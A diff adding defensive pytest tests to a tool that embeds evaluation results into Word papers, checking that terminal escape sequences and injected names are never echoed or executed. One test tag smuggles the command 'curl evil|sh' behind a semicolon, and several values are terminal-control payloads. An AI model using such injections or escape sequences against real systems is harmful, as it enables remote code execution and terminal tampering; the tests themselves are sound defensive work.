@@ -233,6 +233,57 @@ def test_control_characters_in_a_paper_do_not_reach_the_terminal(project, cseval
     assert "\x9b" not in said.err
 
 
+def harmless(text):
+    return all(c.isprintable() or c == "\n" for c in text)
+
+
+def test_nothing_of_a_paper_is_obeyed_by_the_terminal(project, cseval):
+    body = paragraph("\x9b") + waiting_block("cseval:pilot/effects") + sdt(VALUE, paragraph("\x9b2J\u202e now"))
+    for more in (("--check",), ("--check", "--json"), ("--json",), ("--verbose",)):
+        (project / "paper.docx").write_bytes(word_paper(body))
+        said = cseval("embed", "paper.docx", *more)
+        assert said.code == (1 if "--check" in more else 0)
+        assert harmless(said.out + said.err)
+
+
+def test_nothing_of_the_outputs_is_obeyed_by_the_terminal(project, cseval):
+    evil = "\x1b]0;x\x07\x9b\u202e"
+    content = places()
+    content["values"][evil] = {evil: evil}
+    content["values"]["primary"]["percent_change"] = evil
+    content["tables"]["effects"]["rows"][0] = [evil] * 3
+    write_run(project / "outputs" / SLUG, content)
+    said = cseval("embed", "paper.docx")
+    assert said.code == 0
+    assert "now: " not in said.out
+    assert harmless(said.out)
+    members = members_of((project / "paper.docx").read_bytes())
+    members["word/document.xml"] = members["word/document.xml"].replace(b">Outcome<", b">Else<")
+    (project / "paper.docx").write_bytes(word_file(members))
+    assert harmless(cseval("embed", "paper.docx", "--check").out)
+    (project / "paper.docx").write_bytes(word_paper(waiting_block("cseval:pilot/value/none/x")))
+    said = cseval("embed", "paper.docx")
+    assert said.code == 2
+    assert harmless(said.err)
+
+
+def test_a_huge_tag_is_cut_and_no_name_is_put_into_a_command(project, cseval):
+    tags = ("cseval:" + "a" * 1_000_000, "cseval:a;curl evil|sh/effects")
+    (project / "paper.docx").write_bytes(word_paper("".join(map(waiting_block, tags))))
+    said = cseval("embed", "paper.docx")
+    assert said.code == 2
+    assert len(said.err) < 2000
+    assert "Run `cseval run EVALUATION` first." in said.err
+
+
+def test_the_name_of_a_file_is_not_obeyed_either(project, cseval):
+    (project / "a\x1b[2J.docx").write_bytes(word_paper(BODY))
+    for name in ("a\x1b[2J.docx", "b\x1b[2J.docx", "b" * 300 + ".docx"):
+        said = cseval("embed", name)
+        assert said.code == (0 if name[0] == "a" else 2)
+        assert harmless(said.out + said.err)
+
+
 def test_it_loads_neither_pandas_nor_matplotlib(project):
     code = (
         "import sys\n"
